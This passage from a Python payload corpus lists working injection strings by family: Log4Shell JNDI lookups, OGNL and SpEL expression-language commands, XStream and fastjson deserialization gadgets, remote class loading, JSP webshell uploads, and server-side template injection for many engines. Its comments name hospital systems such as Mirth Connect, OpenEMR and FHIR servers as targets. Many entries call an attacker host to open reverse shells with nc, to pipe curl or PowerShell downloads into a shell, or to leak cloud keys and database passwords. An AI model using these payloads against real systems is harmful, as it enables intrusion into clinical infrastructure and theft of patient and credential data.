    "${jndi:ldaps://pacs-logs.attacker.example/Basic/Command/Base64/aWQ=}",
    f"${{jndi:rmi://{ATK}:1099/hl7gw}}",
    "${jndi:dns://${env:HOSTNAME}.mirth.attacker.example}",
    "${jndi:ldap://${sys:java.version}.${env:USER}.ehr.attacker.example/a}",
    f"${{${{lower:j}}${{lower:n}}${{lower:d}}${{lower:i}}:${{lower:l}}dap://{ATK}/a}}",
    f"${{${{upper:j}}ndi:${{upper:l}}${{upper:d}}ap://{ATK}/x}}",
    f"${{${{::-j}}${{::-n}}${{::-d}}${{::-i}}:${{::-r}}${{::-m}}${{::-i}}://{ATK}/o}}",
    f"${{${{env:NaN:-j}}ndi${{env:NaN:-:}}${{env:NaN:-l}}dap${{env:NaN:-:}}//{ATK}/p}}",
    f"${{j${{k8s:k5:-ND}}i${{sd:k5:-:}}ldap://{ATK}/k}}",
    f"${{j${{main:\\k5:-Nd}}i${{spring:k5:-:}}ldap://{ATK}/s}}",
    f"${{${{date:'j'}}${{date:'n'}}${{date:'d'}}${{date:'i'}}:ldap://{ATK}/d}}",
    "${jndi:ldap://127.0.0.1#wado.attacker.example:1389/a}",
    f"${{jndi:iiop://{ATK}/z}}",
    f"${{jndi:ldap://{ATK}/${{env:AWS_SECRET_ACCESS_KEY}}}}",
    "${jndi:${lower:d}n${lower:s}://${env:DB_PASSWORD}.attacker.example}",
    ("patient=%24%7Bjndi%3Aldap%3A%2F%2F" + ATK + "%2Fenc%7D", *KVF),
    ('{"resourceType":"Patient","name":[{"family":"\\u0024\\u007bjndi:ldap://' + ATK + '/fhir\\u007d"}]}', *JB),
    f"PID|1||12345^^^HOSP^MR||${{jndi:ldap://{ATK}/hl7}}^JOHN||19800101|M",
    "${jndi:ldap://[::ffff:cb00:7132]:1389/v6}",
]

# expression-language. Target: OGNL in Struts 2 billing modules and a Confluence clinical-guidelines wiki, SpEL
# in Spring Boot FHIR servers, MVEL in Drools clinical-decision rules, JEXL in a LIMS calculation engine, JSP/JSF
# EL in patient portals.
EL: list[Entry] = [
    "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?"
    "(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container'])."
    "(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class))."
    "(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear())."
    "(#context.setMemberAccess(#dm)))).(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd}))."
    "(#p.redirectErrorStream(true)).(#process=#p.start())."
    "(@org.apache.commons.io.IOUtils@toString(#process.getInputStream()))}",
    "${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('id').getInputStream(),"
    "'utf-8')).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader('X-Cmd-Response',#a))}",
    "%{#a=(new java.lang.ProcessBuilder(new java.lang.String[]{'cat','/etc/passwd'})).redirectErrorStream(true)"
    ".start()}",
    "(#context['xwork.MethodAccessor.denyMethodExecution']=false)(#_memberAccess['allowStaticMethodAccess']=true)"
    "(@java.lang.Runtime@getRuntime().exec('id'))",
    "%{@java.lang.System@getProperty('user.dir')}",
    "redirect:${#req=#context.get('com.opensymphony.xwork2.dispatcher.HttpServletRequest'),#a=#req.getSession(),"
    "#b=#a.getServletContext(),#c=#b.getRealPath('/'),#c}",
    f"T(java.lang.Runtime).getRuntime().exec(\"curl http://{ATK}/s -o /tmp/s\")",
    "#{T(java.lang.System).getenv('SPRING_DATASOURCE_PASSWORD')}",
    "#{new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('id').getInputStream()).next()}",
    "T(org.springframework.util.StreamUtils).copy(T(java.lang.Runtime).getRuntime().exec('id').getInputStream(),"
    "T(org.springframework.web.context.request.RequestContextHolder).currentRequestAttributes().getResponse()"
    ".getOutputStream())",
    "#{''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('whoami')}",
    "@{java.lang.Runtime.getRuntime().exec('id')}",
    "def x = new java.lang.ProcessBuilder('id'); x.start();",
    "''.getClass().forName('java.lang.Runtime').getRuntime().exec('cat /etc/passwd')",
    "new('java.lang.ProcessBuilder', ['id']).start()",
    "${pageContext.request.getSession().getServletContext().getRealPath('/')}",
    "${applicationScope}",
    "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}",
    "${pageContext.servletContext.getAttribute('org.apache.catalina.jsp_classpath')}",
]

# polymorphic-deserialization. Target: XStream in Mirth Connect's REST API (the interface engine of most
# hospitals), XMLDecoder in WebLogic-hosted claims systems, fastjson in a Java telehealth backend, Jackson default
# typing in a Spring FHIR facade.
POLYMORPHIC: list[Entry] = [
    ("<sorted-set><string>foo</string><dynamic-proxy><interface>java.lang.Comparable</interface>"
     "<handler class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command>"
     "<string>id</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>", *XB),
    ("<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags><value class=\"com.sun.xml.internal."
     "bind.v2.runtime.unmarshaller.Base64Data\"><dataHandler><dataSource class=\"com.sun.xml.internal.ws."
     "encoding.xml.XMLMessage$XmlDataSource\"><is class=\"javax.crypto.CipherInputStream\"><cipher class=\"javax."
     "crypto.NullCipher\"><serviceIterator class=\"javax.imageio.spi.FilterIterator\"><iter class=\"javax.imageio."
     "spi.FilterIterator\"><iter class=\"java.util.Collections$EmptyIterator\"/><next class=\"java.lang."
     "ProcessBuilder\"><command><string>cat</string><string>/etc/passwd</string></command></next></iter>"
     "<filter class=\"javax.imageio.ImageIO$ContainsFilter\"><method><class>java.lang.ProcessBuilder</class>"
     "<name>start</name><parameter-types/></method><name>foo</name></filter></serviceIterator></cipher></is>"
     "</dataSource></dataHandler></value></jdk.nashorn.internal.objects.NativeString></entry></map>", *XB),
    ("<java.util.PriorityQueue serialization=\"custom\"><unserializable-parents/><java.util.PriorityQueue>"
     "<default><size>2</size><comparator class=\"org.apache.commons.beanutils.BeanComparator\"><property>"
     "outputProperties</property></comparator></default></java.util.PriorityQueue></java.util.PriorityQueue>", *XB),
    ("<java version=\"1.8.0\" class=\"java.beans.XMLDecoder\"><object class=\"java.lang.ProcessBuilder\">"
     "<array class=\"java.lang.String\" length=\"3\"><void index=\"0\"><string>/bin/bash</string></void>"
     "<void index=\"1\"><string>-c</string></void><void index=\"2\"><string>id</string></void></array>"
     "<void method=\"start\"/></object></java>", *XB),
    ("<java><object class=\"java.lang.Runtime\" method=\"getRuntime\"><void method=\"exec\">"
     "<string>touch /tmp/claims</string></void></object></java>", *XB),
    ("<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\"><soapenv:Header>"
     "<work:WorkContext xmlns:work=\"http://bea.com/2004/06/soap/workarea/\"><java class=\"java.beans.XMLDecoder\">"
     "<void class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"1\"><void index=\"0\">"
     "<string>id</string></void></array><void method=\"start\"/></void></java></work:WorkContext></soapenv:Header>"
     "<soapenv:Body/></soapenv:Envelope>", *XB),
    (f'{{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://{ATK}:1389/tele","autoCommit":true}}',
     *JB),
    (f'{{"a":{{"@type":"java.lang.Class","val":"com.sun.rowset.JdbcRowSetImpl"}},"b":{{"@type":'
     f'"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://{ATK}:1099/x","autoCommit":true}}}}', *JB),
    (f'{{"@type":"Lcom.sun.rowset.JdbcRowSetImpl;","dataSourceName":"ldap://{ATK}/l","autoCommit":true}}', *JB),
    (f'{{"@type":"org.apache.ibatis.datasource.jndi.JndiDataSourceFactory","properties":'
     f'{{"data_source":"ldap://{ATK}/mybatis"}}}}', *JB),
    ('{"@type":"org.apache.tomcat.dbcp.dbcp2.BasicDataSource","driverClassLoader":{"@type":'
     '"com.sun.org.apache.bcel.internal.util.ClassLoader"},"driverClassName":"$$BCEL$$$l$8b$I$A$A$A$A$A"}', *JB),
    (f'["ch.qos.logback.core.db.JNDIConnectionSource",{{"jndiLocation":"ldap://{ATK}:1389/fhir"}}]', *JB),
    ('["ch.qos.logback.core.db.DriverManagerConnectionSource",{"url":"jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=3;'
     f"INIT=RUNSCRIPT FROM 'http://{ATK}/inject.sql'\"}}]", *JB),
    (f'{{"@class":"org.apache.xbean.propertyeditor.JndiConverter","asText":"ldap://{ATK}/xbean"}}', *JB),
    (f'{{"id":1,"obj":["org.apache.commons.configuration.JNDIConfiguration","ldap://{ATK}/cfg"]}}', *JB),
    (f'{{"@type":"java.net.Inet4Address","val":"fastjson.{ATK}.nip.io"}}', *JB),
    "com.sun.rowset.JdbcRowSetImpl",
]

# class-loading. Target: the JVM's class loaders, reached from SpEL, Groovy, Nashorn and SnakeYAML in Spring EHR
# modules, a research warehouse's Groovy query console and a LIMS rules engine: load attacker bytecode.
CLASS_LOADING: list[Entry] = [
    f"new java.net.URLClassLoader(new java.net.URL[]{{new java.net.URL(\"http://{ATK}/x.jar\")}})"
    ".loadClass(\"Exploit\").newInstance()",
    f"T(java.net.URLClassLoader).newInstance(new java.net.URL[]{{new java.net.URL('http://{ATK}/e.jar')}})"
    ".loadClass('Evil').getConstructor().newInstance()",
    "java.lang.reflect.Method m=ClassLoader.class.getDeclaredMethod(\"defineClass\",byte[].class,int.class,"
    "int.class);m.setAccessible(true);",
    "new com.sun.org.apache.bcel.internal.util.ClassLoader().loadClass(\"$$BCEL$$$l$8b$I$A$A$A$A$A$A$A$8dV$5bW\")"
    ".newInstance()",
    "java.lang.invoke.MethodHandles.lookup().defineClass(java.util.Base64.getDecoder().decode('"
    + _b64(CLASS_BYTES) + "'))",
    f"Class.forName(\"Exploit\",true,new java.net.URLClassLoader(new java.net.URL[]{{new java.net.URL("
    f"\"http://{ATK}/c/\")}}))",
    (f"!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://{ATK}/yaml.jar\"]]]]",
     *YB),
    "this.class.classLoader.parseClass('class X{static{\"id\".execute()}}').newInstance()",
    f"new GroovyClassLoader().parseClass(new URL('http://{ATK}/p.groovy').text).newInstance()",
    "@Grab(group='org.attacker', module='evil', version='1.0')\nimport Evil",
    f"new javax.management.loading.MLet(new java.net.URL[]{{new java.net.URL('http://{ATK}/m.jar')}})"
    ".loadClass('Payload')",
    f"Java.type('java.net.URLClassLoader').newInstance([new java.net.URL('http://{ATK}/n.jar')])"
    ".loadClass('N').newInstance()",
    ('{"@type":"com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl","_bytecodes":["' + _b64(CLASS_BYTES)
     + '"],"_name":"a","_tfactory":{},"_outputProperties":{}}', *JB),
    "T(java.lang.System).setProperty('com.sun.jndi.ldap.object.trustURLCodebase','true')",
    f"java.beans.Beans.instantiate(new java.net.URLClassLoader(new java.net.URL[]{{new java.net.URL("
    f"'http://{ATK}/b.jar')}}),'Evil')",
    f"new javax.script.ScriptEngineManager(new java.net.URLClassLoader(new java.net.URL[]{{new java.net.URL("
    f"'http://{ATK}/spi.jar')}}))",
    "sun.misc.Unsafe.getUnsafe().defineAnonymousClass(java.lang.Object.class,bytes,null).newInstance()",
]

JSP_SHELL = ("<%@ page import=\"java.io.*\" %><% Process p=Runtime.getRuntime().exec(request.getParameter(\"c\"));"
             "InputStream in=p.getInputStream();int b;while((b=in.read())!=-1){out.write(b);} %>")

# jsp-upload. Target: Tomcat/JBoss hosting a PACS web viewer, a LIMS and a document-scanning module of an EHR:
# upload a JSP (names that slip past an extension check) or post JSP source into a field that is saved as a file.
JSP_UPLOAD: list[Entry] = [
    ("discharge_summary.jsp", *UP),
    ("ecg_trace.jspx", *UP),
    ("lab_report.jsp%00.pdf", *UP),
    ("ct_head.jsp;.dcm", *UP),
    ("avatar.JSP", *UP),
    ("consent_form.jsp.", *UP),
    ("radiology_note.jsp::$DATA", *UP),
    ("../../webapps/ROOT/scan.jsp", *UP),
    ("insurance_card.jsp ", *UP),
    "<% Runtime.getRuntime().exec(request.getParameter(\"cmd\")); %>",
    JSP_SHELL,
    "<jsp:scriptlet>new java.lang.ProcessBuilder(request.getParameter(\"c\")).start();</jsp:scriptlet>",
    "<jsp:root xmlns:jsp=\"http://java.sun.com/JSP/Page\" version=\"2.0\"><jsp:scriptlet>Runtime.getRuntime()"
    ".exec(request.getParameter(\"x\"));</jsp:scriptlet></jsp:root>",
    "<%@page import=\"java.util.*,javax.crypto.*,javax.crypto.spec.*\"%><%!class U extends ClassLoader{U(ClassLoader"
    " c){super(c);}public Class g(byte []b){return super.defineClass(b,0,b.length);}}%>",
    "<%=new java.util.Scanner(Runtime.getRuntime().exec(request.getParameter(\"x\")).getInputStream())"
    ".useDelimiter(\"\\\\A\").next()%>",
    "<jsp:directive.page import=\"java.io.*\"/><jsp:expression>new java.io.File(\"/opt/pacs/conf\").list()"
    "</jsp:expression>",
]

# ================================================================================================================
# ssti (one sub-family per engine)
# ================================================================================================================
# jinja2. Target: Jinja2 in Flask research dashboards, REDCap-style survey tools in Python and SMART-on-FHIR apps'
# reminder templates.
JINJA2: list[Entry] = [
    "{{7*'7'}}",
    "{{ config.items() }}",
    "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "{{ cycler.__init__.__globals__.os.popen('cat /etc/passwd').read() }}",
    "{{ lipsum.__globals__['os'].popen('env').read() }}",
    "{{ request.application.__globals__.__builtins__.open('/app/instance/config.py').read() }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}"
    "{{ c()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}",
    "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')"
    "('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')"
    "|attr('popen')('id')|attr('read')() }}",
    "{{ url_for.__globals__.current_app.config['SQLALCHEMY_DATABASE_URI'] }}",
    "{{ get_flashed_messages.__globals__.__builtins__.eval(\"__import__('os').system('id')\") }}",
    "{{ namespace.__init__.__globals__.os.popen('ls /srv/redcap_exports').read() }}",
]

# twig. Target: Twig in OpenEMR 7 (letter and patient-portal templates) and Symfony-based practice-management apps.
TWIG: list[Entry] = [
    "{{7*7}}",
    "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}",
    "{{['id']|filter('system')}}",
    "{{['cat sites/default/sqlconf.php']|map('passthru')|join}}",
    "{{['id','']|sort('passthru')}}",
    "{{ app.request.server.all|join(',') }}",
    "{{ '/etc/passwd'|file_excerpt(1,30) }}",
    "{% set cmd = 'uname -a' %}{{ [cmd]|filter('shell_exec')|first }}",
    f"{{{{_self.env.setCache('ftp://{ATK}:2121')}}}}{{{{_self.env.loadTemplate('backdoor')}}}}",
    "{{['cat /etc/passwd']|map('system')|join(',')}}",
]

# freemarker. Target: FreeMarker in a Liferay patient portal, an OFBiz-based billing system and a Java LIMS's
# report templates.
FREEMARKER: list[Entry] = [
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "${\"freemarker.template.utility.Execute\"?new()(\"cat /etc/passwd\")}",
    "<#assign ob=\"freemarker.template.utility.ObjectConstructor\"?new()>"
    "${ob(\"java.lang.ProcessBuilder\",[\"id\"]).start()}",
    "<#assign jv=\"freemarker.template.utility.JythonRuntime\"?new()><@jv>import os;os.system(\"id\")</@jv>",
    "${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/etc/passwd')"
    ".toURL().openStream().readAllBytes()?join(\" \")}",
    "<#assign classloader=article?api.class.protectionDomain.classLoader><#assign owc=classloader.loadClass("
    "\"freemarker.template.ObjectWrapper\")><#assign dwf=owc.getField(\"DEFAULT_WRAPPER\").get(null)>"
    "<#assign ec=classloader.loadClass(\"freemarker.template.utility.Execute\")>${dwf.newInstance(ec,null)(\"id\")}",
    "[#assign ex='freemarker.template.utility.Execute'?new()]${ex('whoami')}",
    f"<#assign value=\"freemarker.template.utility.Execute\"?new()>${{value(\"curl http://{ATK}/x -o /tmp/x\")}}",
    "<#list .data_model?keys as k>${k}</#list>",
]

# velocity. Target: Apache Velocity in Mirth Connect channel and alert templates, and a Confluence-based clinical
# guidelines wiki.
VELOCITY: list[Entry] = [
    "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($chr=$x.class.forName('java.lang.Character'))"
    "#set($str=$x.class.forName('java.lang.String'))#set($ex=$rt.getRuntime().exec('id'))$ex.waitFor()"
    "#set($out=$ex.getInputStream())#foreach($i in [1..$out.available()])$str.valueOf($chr.toChars($out.read()))"
    "#end",
    "$class.inspect('java.lang.Runtime').type.getRuntime().exec('id')",
    "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null)"
    ".exec(\"cat /etc/passwd\")",
    "${channelMap.getClass().forName('java.lang.Runtime').getRuntime().exec('id')}",
    "#set($s=$request.getClass().getClassLoader())$s.loadClass('java.lang.Runtime').getRuntime().exec('whoami')",
    "#evaluate(\"#set($r=''.class.forName('java.lang.Runtime'))$r.getRuntime().exec('id')\")",
    "$!{msg.class.forName('java.lang.System').getenv()}",
    "#set($p=$x.class.forName('java.lang.ProcessBuilder'))#set($pb=$p.getConstructor($x.class.forName("
    "'[Ljava.lang.String;')))$pb.newInstance(['sh','-c','id']).start()",
    "#foreach($f in $x.class.forName('java.io.File').getConstructor($x.class).newInstance('/opt/mirthconnect/conf')"
    ".list())$f #end",
]

# thymeleaf. Target: Thymeleaf in HAPI FHIR's narrative generator and test-page overlay, and Spring Boot patient
# portals that build a view name from a request parameter.
THYMELEAF: list[Entry] = [
    "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
    "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec(\"cat /etc/passwd\").getInputStream())"
    ".next()}__::x",
    "[[${T(java.lang.Runtime).getRuntime().exec('whoami')}]]",
    "[(${T(java.lang.System).getenv()})]",
    "<p th:text=\"${T(java.lang.Runtime).getRuntime().exec('id')}\"></p>",
    "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
    "__${@environment.getProperty('spring.datasource.password')}__::x",
    "${T(org.springframework.util.StreamUtils).copyToString(T(java.lang.Runtime).getRuntime().exec('id')"
    ".getInputStream(),T(java.nio.charset.Charset).forName('UTF-8'))}",
    "~{::__${T(java.lang.Runtime).getRuntime().exec('uname -a')}__}",
    "<div th:utext=\"${T(java.nio.file.Files).readString(T(java.nio.file.Path).of('/etc/passwd'))}\"></div>",
]

# erb. Target: ERB in a Rails patient portal's notification and letter templates.
ERB: list[Entry] = [
    "<%= 7*7 %>",
    "<%= `id` %>",
    "<%= system('cat /etc/passwd') %>",
    "<%= IO.popen('ls /').readlines() %>",
    "<%= File.open('/etc/passwd').read %>",
    "<%= Dir.entries('/') %>",
    "<%= require 'open3'; Open3.capture2('id')[0] %>",
    "<%= ENV['SECRET_KEY_BASE'] %>",
    "<%= Rails.application.secrets.secret_key_base %>",
    f"<%= %x(curl {ATK}/e.sh | sh) %>",
]

# smarty. Target: Smarty in OpenEMR's legacy templates and PHP clinic-management apps.
SMARTY: list[Entry] = [
    "{$smarty.version}",
    "{php}echo `id`;{/php}",
    "{system('id')}",
    "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['cmd']); ?>\",self::clearConfig())}",
    "{if system('cat /etc/passwd')}{/if}",
    "{fetch file='/etc/passwd'}",
    "{include file='file:/var/www/openemr/sites/default/sqlconf.php'}",
    "{eval var=\"{system('uname -a')}\"}",
    "{math equation='(\"\\163\\171\\163\\164\\145\\155\")(\"id\")'}",
    "{$smarty.template_object->smarty->display('string:{shell_exec(\"id\")}')}",
]


def _hbs(code: str) -> str:
    """The Handlebars constructor-through-lookup chain (Node.js) running `code`."""
    return ("{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}"
            "{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}"
            "{{this.pop}}{{this.push \"" + code + "\"}}{{this.pop}}{{#each conslist}}"
            "{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}")


# handlebars. Target: Handlebars (Node.js) in a telehealth platform's appointment-reminder e-mails.
HANDLEBARS: list[Entry] = [
    _hbs("return require('child_process').execSync('id');"),
    _hbs("return process.mainModule.require('child_process').execSync('cat /etc/passwd');"),
    _hbs("return JSON.stringify(process.env);"),
    _hbs(f"return process.mainModule.require('child_process').exec('nc {ATK} 4444 -e /bin/sh');"),
    "{{#with this as |o|}}{{#with (lookup o \"constructor\")}}{{#with (lookup this \"constructor\")}}"
    "{{this \"return process.env\"}}{{/with}}{{/with}}{{/with}}",
    "{{lookup (lookup this 'constructor') 'constructor'}}",
    "{{#each (lookup this '__proto__')}}{{@key}}{{/each}}",
    "{{#with (lookup this.constructor 'prototype')}}{{this.isAdmin}}{{/with}}",
]

# pug. Target: Pug (Node.js) in an Express patient portal whose "custom greeting" is compiled as a template.
PUG: list[Entry] = [
    "#{7*7}",
    "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad(\"child_process\")"
    ".exec('id')}()}",
    "- var x = root.process.mainModule.require('child_process').execSync('cat /etc/passwd')",
    "#{root.process.mainModule.require('child_process').spawnSync('ls').stdout}",
    "= global.process.mainModule.require('child_process').execSync('id').toString()",
    f"- global.process.mainModule.require('child_process').exec('nc {ATK} 4444 -e /bin/sh')",
    "#{global.process.mainModule.require('fs').readFileSync('/app/.env')}",
    "!{global.process.mainModule.require('child_process').execSync('whoami')}",
    "p #{JSON.stringify(global.process.env)}",
]

# mako. Target: Mako (Python) in a Pylons-era clinical research data tool.
MAKO: list[Entry] = [
    "${self.module.cache.util.os.system('id')}",
    "<% import os; x=os.popen('id').read() %>${x}",
    "${self.module.runtime.util.os.popen('cat /etc/passwd').read()}",
    "${self.context._with_template.module.cache.util.os.system('id')}",
    "<%! import os %>${os.popen('whoami').read()}",
    "${__import__('subprocess').check_output(['id'])}",
    "<%namespace name=\"x\" module=\"os\"/>${x.system('id')}",
    "${''.__class__.__mro__[-1].__subclasses__()}",
    "<%\nimport subprocess\nx = subprocess.check_output('env', shell=True)\n%>${x}",
]

# tornado. Target: Tornado templates in a Python FHIR facade and a trial-recruitment site.
TORNADO: list[Entry] = [
    "{% import os %}{{ os.popen('id').read() }}",
    "{{__import__('os').system('id')}}",
    "{% import subprocess %}{{ subprocess.check_output(['cat','/etc/passwd']) }}",
    "{{handler.settings}}",
    "{{handler.application.settings['cookie_secret']}}",
    "{% raw __import__('os').popen('env').read() %}",
    "{% apply __import__('os').system %}id{% end %}",
    "{% set x = __import__('os').popen('whoami').read() %}{{x}}",
    "{% include '/etc/passwd' %}",
]

# nunjucks. Target: Nunjucks (Node.js) in a LIMS label-printing service and an Eleventy-built patient-education
# site with a preview endpoint.
NUNJUCKS: list[Entry] = [
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
    "{{ cycler.constructor('return process.env')() }}",
    "{{ joiner.constructor(\"return process.mainModule.require('fs').readFileSync('/etc/passwd','utf8')\")() }}",
    "{{ ''.constructor.constructor('return this.process.env')() }}",
    "{% set p = range.constructor('return process')() %}"
    "{{ p.mainModule.require('child_process').execSync('cat /etc/hosts') }}",
    "{{ [].constructor.constructor(\"return global.process.mainModule.require('child_process')"
    ".spawnSync('ls',['-la','/']).stdout\")() }}",
    "{{ range.constructor('return process.env')() | dump }}",
    f"{{{{range.constructor(\"return global.process.mainModule.require('child_process')"
    f".exec('curl {ATK}/n|sh')\")()}}}}",
]

# ejs. Target: EJS (Node.js) in a telehealth platform's Express views and its clinician-editable intake forms.
EJS: list[Entry] = [
    "<%= process.mainModule.require('child_process').execSync('id') %>",
    "<%- global.process.mainModule.require('child_process').execSync('cat /etc/passwd') %>",
    f"<% require('child_process').exec('nc {ATK} 4444 -e /bin/sh') %>",
    "<%= require('fs').readFileSync('/app/config/default.json') %>",
    "<%- include('/etc/passwd') %>",
    "<%= process.env.FHIR_CLIENT_SECRET %>",
    "<%= this.constructor.constructor('return process')().mainModule.require('child_process').execSync('whoami') %>",
    "<%= global.process.mainModule.constructor._load('child_process').execSync('ls /srv') %>",
    ("settings[view options][outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');s",
     *KVQ),
    ("settings[view options][client]=1&settings[view options][escapeFunction]=JSON.stringify;"
     "process.mainModule.require('child_process').execSync('id')", *KVF),
]

# pebble. Target: Pebble (Java) in an e-prescribing and pharmacy system's label and fax templates.
PEBBLE: list[Entry] = [
    "{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('id') }}",
    "{% set cmd = 'id' %}{% set bytes = (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null)"
    ".exec(cmd).inputStream.readAllBytes() %}{{ (1).TYPE.forName('java.lang.String').constructors[0]"
    ".newInstance(([bytes]).toArray()) }}",
    "{{ (1).TYPE.forName('java.lang.System').getenv() }}",
    "{{ beans.get('environment').getProperty('spring.datasource.password') }}",
    "{{ ''.getClass().forName('java.lang.ProcessBuilder').getConstructors()[0].newInstance(['whoami']).start() }}",
    "{{ request.servletContext.getAttribute('org.springframework.web.context.WebApplicationContext.ROOT') }}",
    "{% include '/etc/shadow' %}",
    "{{ 'x'.class.forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('cat /etc/passwd') }}",
]

# razor. Target: Razor (RazorEngine / RazorLight on .NET) in a Windows practice-management system's letter
# templates and a telehealth platform's e-mail templates.
RAZOR: list[Entry] = [
    "@(7*7)",
    "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami > C:\\\\inetpub\\\\wwwroot\\\\o.txt\")",
    f"@{{ System.Diagnostics.Process.Start(\"powershell\", \"-c iwr http://{ATK}/s.ps1|iex\"); }}",
    "@System.IO.File.ReadAllText(\"C:\\\\Windows\\\\win.ini\")",
    "@System.Environment.GetEnvironmentVariable(\"ConnectionStrings__EHR\")",
    "@{var p=new System.Diagnostics.Process();p.StartInfo.FileName=\"cmd.exe\";p.StartInfo.Arguments=\"/c net user\";"
    "p.Start();}",
    "@Html.Raw(System.IO.File.ReadAllText(@\"C:\\inetpub\\wwwroot\\web.config\"))",
    "@System.IO.Directory.GetFiles(@\"C:\\ProgramData\\PracticeManager\\\")",
    "@System.Reflection.Assembly.Load(System.Convert.FromBase64String(\"" + _b64(b"MZ\x90\x00\x03\x00\x00\x00")
    + "\"))",
]

# go-templates. Target: Go text/template and html/template in a DICOM proxy's admin page, a Helm/Sprig-rendered
# telehealth config and a Hugo-built patient-education site.
GO_TEMPLATES: list[Entry] = [
    "{{.}}",
    "{{printf \"%#v\" .}}",
    "{{ .Request.Header }}",
    "{{ env \"AWS_SECRET_ACCESS_KEY\" }}",
    "{{ expandenv \"$DATABASE_URL\" }}",
    "{{ readFile \"/etc/passwd\" }}",
    "{{ file \"/opt/orthanc/orthanc.json\" }}",
    "{{define \"T1\"}}<script>alert(document.cookie)</script>{{end}}{{template \"T1\"}}",
    "{{ range $i, $e := until 100000000 }}{{ $e }}{{ end }}",
]

# liquid. Target: Liquid in Microsoft's FHIR-Converter (HL7 v2 to FHIR templates), a Jekyll docs site for the
# lab's API and a patient portal's Shopify-style storefront for durable medical equipment.
LIQUID: list[Entry] = [
    "{{ 7 | times: 7 }}",
    "{% include '../../../../etc/passwd' %}",
    "{% render '/etc/passwd' %}",
    "{% include_relative ../../_config.yml %}",
    "{% for i in (1..99999999) %}{% for j in (1..99999999) %}x{% endfor %}{% endfor %}",
    "{% assign x = 'a' %}{% for i in (1..40) %}{% assign x = x | append: x %}{% endfor %}{{ x }}",
    "{{ '<script>alert(document.domain)</script>' }}",
    "{{ site.github | jsonify }}",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("generic", "nodejs-injection", NODE_INJECTION),
    ("generic", "nodejs-dos", NODE_DOS),
    ("generic", "ssrf-cloud-metadata", SSRF_CLOUD),
    ("generic", "ssrf-internal-ip", SSRF_INTERNAL),
    ("generic", "javascript-prototype-pollution", POLLUTION),
    ("generic", "ruby-injection", RUBY),
    ("generic", "perl-injection", PERL),
    ("generic", "php-data-scheme", PHP_DATA),
    ("java", "java-class-names", JAVA_NAMES),
    ("java", "java-process-spawn", JAVA_SPAWN),
    ("java", "java-serialization", JAVA_SERIAL),
    ("java", "deserialization-gadgets", GADGETS),
    ("java", "log4shell", LOG4SHELL),
    ("java", "expression-language", EL),
    ("java", "polymorphic-deserialization", POLYMORPHIC),
    ("java", "class-loading", CLASS_LOADING),
    ("java", "jsp-upload", JSP_UPLOAD),
    ("ssti", "jinja2", JINJA2),
    ("ssti", "twig", TWIG),
    ("ssti", "freemarker", FREEMARKER),
    ("ssti", "velocity", VELOCITY),
    ("ssti", "thymeleaf", THYMELEAF),
    ("ssti", "erb", ERB),
    ("ssti", "smarty", SMARTY),
    ("ssti", "handlebars", HANDLEBARS),
    ("ssti", "pug", PUG),
    ("ssti", "mako", MAKO),
    ("ssti", "tornado", TORNADO),
    ("ssti", "nunjucks", NUNJUCKS),
    ("ssti", "ejs", EJS),
